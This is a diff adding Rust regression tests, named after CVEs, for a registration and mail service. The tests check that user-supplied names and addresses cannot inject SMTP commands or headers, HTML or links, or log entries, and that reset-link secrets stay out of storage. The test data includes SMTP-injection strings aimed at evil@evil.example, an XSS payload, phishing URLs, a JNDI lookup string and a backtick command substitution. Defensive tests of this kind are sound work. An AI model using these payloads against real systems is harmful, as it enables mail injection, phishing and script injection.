@@ -1,0 +1,214 @@
+//! What a mail and a log say, whatever people are called.
+
+use genkan::onboarding::register::Contact;
+use genkan::onboarding::{Actor, Address, Store as _};
+use genkan::policy::Language;
+
+use super::BASE;
+use crate::support::browser::{Browser, fields};
+use crate::support::databases::houses;
+use crate::support::smtp::{Envelope, Manners, Smtp};
+use crate::support::{House, TARO, log};
+
+/// A contact of that name and company is sent a link, and this is what comes.
+async fn mail_to(house: &mut House, name: &str, language: Language) -> (Envelope, Vec<String>) {
+    let server = Smtp::start(Manners::default()).await;
+    house.config.smtp = Some(server.config());
+    // The one before has gone, so that the address is free again.
+    let address = Address::parse(TARO).unwrap();
+    let store = &house.portal.store;
+    if let Some(before) = store.account_by_address(&address).await.unwrap() {
+        let removed = house.portal.remove(before.id, Actor::System).await;
+        removed.unwrap().unwrap();
+        house.deliver().await;
+    }
+    let contact = Contact {
+        address,
+        name: name.into(),
+        company: name.into(),
+        language,
+    };
+    assert!(house.portal.register(contact).await.unwrap());
+    let id = house.account(TARO).await.id;
+    house
+        .portal
+        .resend(id, Actor::System)
+        .await
+        .unwrap()
+        .unwrap();
+    let before = (server.mails().len(), server.commands().len());
+    house.deliver().await;
+    let (mails, mut commands) = (server.mails(), server.commands());
+    assert_eq!(mails.len(), before.0 + 1, "{name:?}");
+    (mails[before.0].clone(), commands.split_off(before.1))
+}
+
+#[tokio::test]
+async fn cve_2021_38189() {
+    // A name cannot end the mail and begin another, nor add a header.
+    for mut house in houses(BASE).await {
+        for break_ in ["\r\n", "\r", "\n", "\u{2028}", "\u{85}", "\r\n\r\n"] {
+            let name = format!(
+                "x{break_}.{break_}MAIL FROM:<evil@evil.example>{break_}RCPT TO:<evil@evil.example>{break_}DATA{break_}Bcc: evil@evil.example{break_}"
+            );
+            for language in [Language::Ja, Language::En] {
+                let (mail, commands) = mail_to(&mut house, &name, language).await;
+                assert_eq!(mail.recipients(), [TARO]);
+                let count = |verb: &str| {
+                    commands
+                        .iter()
+                        .filter(|line| line.starts_with(verb))
+                        .count()
+                };
+                assert_eq!(
+                    (count("MAIL"), count("RCPT"), count("DATA")),
+                    (1, 1, 1),
+                    "{commands:?}"
+                );
+                let (headers, parts) = mail.read();
+                assert!(!headers.contains("evil") && parts.len() == 2, "{headers}");
+                assert!(parts[0].contains(&format!("{BASE}reset/gkn_fst_")));
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn cve_2022_1274() {
+    // A name is text: no markup, no address that a mail program makes a link
+    // of, no turned direction, no second line.
+    for mut house in houses(BASE).await {
+        for name in [
+            "<a href=//evil.example>click</a>",
+            "\"><img src=x onerror=alert(1)>",
+            "https://evil.example/login",
+            "http://evil.example",
+            "x\nhttps://evil.example/login\n",
+            "see https://evil.example/login now",
+            "HTTPS://EVIL.EXAMPLE",
+            "www.evil.example",
+            "evil.example/login",
+            "mail evil@evil.example",
+            "evil\u{3002}example",
+            "\u{202e}elpmaxe.live//:sptth",
+            "\u{2067}a\u{2069}",
+            "&lt;b&gt;",
+        ] {
+            for language in [Language::Ja, Language::En] {
+                let (mail, _) = mail_to(&mut house, name, language).await;
+                let (_, parts) = mail.read();
+                let (text, html) = (&parts[0], &parts[1]);
+                for tag in ["<a href=\"", "<img", "<b>"] {
+                    let ours = format!("<a href=\"{BASE}");
+                    let found = html.matches(tag).count();
+                    let allowed = if tag.starts_with("<a") {
+                        html.matches(&ours).count()
+                    } else {
+                        0
+                    };
+                    assert_eq!(found, allowed, "{name:?}: {html}");
+                }
+                assert!(!html.contains("<a href=//"), "{name:?}");
+                for part in [text, html] {
+                    let lower = part.to_lowercase();
+                    for address in ["evil.example", "//evil", "evil\u{3002}example"] {
+                        assert!(!lower.contains(address), "{name:?}: {part}");
+                    }
+                    let is_turning = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}');
+                    assert!(!part.contains(is_turning), "{name:?}");
+                }
+                let greeting = text.lines().next().unwrap();
+                assert!(
+                    greeting.ends_with(" \u{69d8}") || greeting.ends_with(','),
+                    "{name:?}: {greeting}"
+                );
+            }
+        }
+        // Real names stay as they are.
+        for name in [
+            "\u{5c71}\u{7530} \u{592a}\u{90ce}",
+            "Jean-Luc O'Neil",
+            "J. R. Smith",
+            "Smith, Jr.",
+            "A & B",
+        ] {
+            let (mail, _) = mail_to(&mut house, name, Language::En).await;
+            assert!(
+                mail.read().1[0].starts_with(&format!("Dear {name},")),
+                "{name}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn cve_2013_4389() {
+    // No address gets into the log, so none can be made to act there.
+    log::keep();
+    for house in houses(BASE).await {
+        let browser = Browser::new(&house);
+        let hostile = [
+            "%s%n%x.gauntlet@example.com",
+            "{}{0}{x:?}.gauntlet@example.com",
+            "${jndi:ldap://x}.gauntlet@example.com",
+            "\u{1b}[31m.gauntlet@example.com",
+            "a\r\nERROR forged.gauntlet@example.com",
+            "`id`.gauntlet@example.com",
+        ];
+        for address in hostile {
+            if Address::parse(address).is_ok() {
+                house.register(address).await;
+            }
+            let form = fields(&[("email", address), ("password", address)]);
+            for path in ["/forgot", "/signin"] {
+                browser.post(path, &form).await;
+            }
+            let _ = browser
+                .get(&format!("/{}", fields(&[("a", address)])))
+                .await;
+        }
+        house.deliver().await;
+        let log = log::read();
+        assert!(log.contains("mail sent") && log.contains("sign-in refused"));
+        assert!(!log.contains("gauntlet") && !log.contains("jndi") && !log.contains('\u{1b}'));
+    }
+}
+
+#[tokio::test]
+async fn cve_2020_35234() {
+    // Before a mail goes out and after, no table and no log holds its link;
+    // with a mail server, no file does either.
+    log::keep();
+    let server = Smtp::start(Manners::default()).await;
+    for mut house in houses(BASE).await {
+        house.config.smtp = Some(server.config());
+        house.register(TARO).await;
+        let browser = Browser::new(&house);
+        browser.post("/forgot", &fields(&[("email", TARO)])).await;
+        house.settle().await;
+        let waiting = house.everything().await;
+        let letters = house.rows(&["letters"]).await;
+        assert!(
+            !letters.contains('@') && !letters.contains("http"),
+            "{letters}"
+        );
+        house.deliver().await;
+        let mails = server.mails();
+        let (_, parts) = mails.last().unwrap().read();
+        let links: Vec<&str> = parts[0]
+            .split(BASE)
+            .skip(1)
+            .filter_map(|link| link.split("gkn_").nth(1))
+            .collect();
+        assert_eq!(links.len(), 2, "a link and the way to decline");
+        let sent = house.everything().await;
+        let log = log::read();
+        for link in links {
+            let secret = &link[4 + 26..4 + 50];
+            for place in [&waiting, &sent, &log] {
+                assert!(!place.contains(secret) && !place.contains(&link[..20]));
+            }
+        }
+        assert!(!house.folder.path().join("mailbox").exists());
+    }
+}
